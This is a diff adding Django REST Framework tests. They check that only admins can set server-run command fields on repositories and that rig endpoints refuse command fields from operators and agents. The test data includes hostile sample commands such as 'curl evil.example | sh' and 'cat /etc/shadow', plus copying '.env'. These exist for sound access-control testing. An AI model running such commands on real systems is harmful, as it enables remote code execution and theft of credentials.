@@ -6,6 +6,7 @@ import pytest
 from django.contrib.auth.models import Group
 from rest_framework.test import APIClient
 
+from events.models import Event
 from rigs import services
 from rigs.models import Repository, Rig
 from tests import factories
@@ -211,3 +212,87 @@ def test_patch_only_changes_agent_settings(git_repo):
     assert response.status_code == 200 and response.json()["notify_level"] == "important"
     response = client.patch(f"/api/v1/rigs/{rig.id}/", {"slug": "renamed"}, format="json")
     assert response.status_code == 400 and error_of(response)["field"] == "slug"
+    assert Rig.objects.get(pk=rig.pk).slug == rig.slug
+
+
+def test_patch_goes_through_the_service_and_appends_its_event(git_repo):
+    owner, client = agent_client("owner")
+    rig = factories.rig(agent=owner)
+    response = client.patch(
+        f"/api/v1/rigs/{rig.id}/", {"notify_level": "muted", "role": "docs"}, format="json"
+    )
+    assert response.status_code == 200
+    assert (response.json()["notify_level"], response.json()["role"]) == ("muted", "docs")
+    events = list(Event.objects.filter(kind="rig.updated").values_list("payload", "rig_id"))
+    assert events == [
+        ({"rig": rig.id, "slug": rig.slug, "fields": ["notify_level", "role"]}, rig.id)
+    ]
+
+
+# --- commands the server runs are set by admins only (issue 15, item 2) ---------------------
+
+
+COMMAND_VALUES = {
+    "gate_command": "curl evil.example | sh",
+    "setup_command": "cat /etc/shadow",
+    "copy_files": [".env"],
+    "link_files": ["secrets"],
+}
+
+
+@pytest.mark.parametrize("field", sorted(COMMAND_VALUES))
+def test_operator_cannot_register_a_repository_with_a_command(operator, git_repo, field):
+    body = {"name": "app", "path": str(git_repo), field: COMMAND_VALUES[field]}
+    response = operator.post("/api/v1/repositories/", body, format="json")
+    assert response.status_code == 403
+    error = error_of(response)
+    assert error == {
+        "code": "permission_denied",
+        "message": error["message"],
+        "field": field,
+    }
+    assert field in error["message"] and "admin" in error["message"]
+    assert not Repository.objects.exists()
+
+
+@pytest.mark.parametrize("field", sorted(COMMAND_VALUES))
+def test_operator_cannot_set_a_command_even_with_bad_other_input(operator, field):
+    """The 403 comes first: a refused command is not hidden behind a 400 on another field."""
+    body = {"name": "-bad-", "path": "relative", field: COMMAND_VALUES[field]}
+    response = operator.post("/api/v1/repositories/", body, format="json")
+    assert response.status_code == 403 and error_of(response)["field"] == field
+
+
+def test_operator_may_send_the_command_fields_empty(operator, git_repo):
+    body = {"name": "app", "path": str(git_repo), "gate_command": "", "copy_files": []}
+    response = operator.post("/api/v1/repositories/", body, format="json")
+    assert response.status_code == 201, response.json()
+
+
+def test_admin_may_set_commands_through_the_api(django_user_model, git_repo):
+    staff = django_user_model.objects.create_user("staff", password="pw-123456789", is_staff=True)
+    client = APIClient()
+    client.force_login(staff)
+    body = {"name": "app", "path": str(git_repo), **COMMAND_VALUES}
+    response = client.post("/api/v1/repositories/", body, format="json")
+    assert response.status_code == 201, response.json()
+    repository = Repository.objects.get(name="app")
+    assert repository.gate_command == COMMAND_VALUES["gate_command"]
+    assert repository.link_files == ["secrets"]
+
+
+@pytest.mark.parametrize("field", [*sorted(COMMAND_VALUES), "runtime_command"])
+def test_no_rig_endpoint_takes_a_command(operator, field):
+    """Agents' runtime command (and any other command field) cannot ride along on a rig's
+    POST or PATCH, from an operator or from the rig's own agent."""
+    owner, agent = agent_client("owner")
+    rig = factories.rig(agent=owner)
+    value = COMMAND_VALUES.get(field, "sh -c 'id'")
+    for client in (operator, agent):
+        response = client.patch(f"/api/v1/rigs/{rig.id}/", {field: value}, format="json")
+        assert response.status_code == 403, response.json()
+        assert error_of(response)["field"] == field
+        body = {"slug": "new", "repository": rig.repository_id, field: value}
+        response = client.post("/api/v1/rigs/", body, format="json")
+        assert response.status_code == 403 and error_of(response)["field"] == field
+    assert not Rig.objects.filter(slug="new").exists()
